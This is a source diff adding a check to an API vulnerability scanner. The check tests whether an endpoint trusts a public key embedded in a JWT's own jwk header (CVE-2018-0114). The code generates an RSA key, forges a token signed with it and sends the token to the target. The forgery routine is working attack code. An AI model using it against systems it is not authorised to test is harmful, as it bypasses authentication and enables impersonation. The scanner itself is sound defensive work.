@@ -1,0 +1,50 @@
+/**
+ * jwt.jwk_injection — the endpoint trusts a public key embedded in the token's own `jwk` header (RFC 7515 §4.1.3)
+ * instead of its configured keys (CVE-2018-0114), so anyone can sign tokens with a key of their own.
+ * Gatehouse addition (DESIGN §2.4), metadata as upstream VulnAPI/jwtop's JWK injection check (9.3, CWE-345).
+ *
+ * Request: 1, the original claims (exp/nbf refreshed) signed RS256 with a fresh RSA key whose public JWK is embedded
+ * in the header (with a matching kid). Verdict: failed when auth.baseline's rule calls the response accepted.
+ */
+import { createPublicKey, generateKeyPair, randomBytes, sign as cryptoSign } from 'node:crypto';
+import { promisify } from 'node:util';
+import { defineCheck } from '../scanner/api.js';
+import { encodeSegment } from '../scanner/jwt/parse-unverified.js';
+import { freshPayloadSegment } from '../scanner/jwt/sign.js';
+import { attackAccepted, requireProtectedEndpoint } from './support/auth-baseline-facts.js';
+import { carriesJwt, operationJwt } from './support/jwt-credential.js';
+
+const ISSUE = 'broken_authentication.jwk_injection';
+const generate = promisify(generateKeyPair);
+
+export default defineCheck({
+  id: 'jwt.jwk_injection',
+  name: 'JWT JWK Header Injection',
+  issues: [
+    {
+      id: ISSUE,
+      name: 'JWT embedded JWK is trusted',
+      url: 'https://www.cerberauth.com/docs/vulnapi/vulnerabilities/broken-authentication/jwt-jwk-injection?utm_source=vulnapi-report',
+      cvss: { version: 4.0, vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N', score: 9.3 },
+      classifications: { owasp: 'API2:2023 Broken Authentication', cwe: 'CWE-345: Insufficient Verification of Data Authenticity' },
+    },
+  ],
+  maxCvss: 9.3,
+  dependsOn: ['auth.baseline'],
+  scanKinds: ['curl', 'openapi', 'graphql'],
+  appliesTo: carriesJwt,
+  async run(ctx) {
+    const jwt = operationJwt(ctx);
+    const facts = requireProtectedEndpoint(ctx);
+    const { privateKey } = await generate('rsa', { modulusLength: 2048 });
+    const kid = `gatehouse-${randomBytes(6).toString('hex')}`;
+    const jwk = { ...createPublicKey(privateKey).export({ format: 'jwk' }), kid, alg: 'RS256', use: 'sig' };
+    const { jku: _jku, x5u: _x5u, x5c: _x5c, ...kept } = jwt.header;
+    const signingInput = `${encodeSegment({ ...kept, alg: 'RS256', kid, jwk })}.${freshPayloadSegment(jwt)}`;
+    const token = `${signingInput}.${cryptoSign('sha256', Buffer.from(signingInput), privateKey).toString('base64url')}`;
+    const response = await ctx.http.send({ credential: token });
+    if (attackAccepted(response, facts)) {
+      ctx.report(ISSUE, { detail: `a token signed by a key embedded in its own jwk header is accepted (${response.status})`, attempt: response });
+    }
+  },
+});
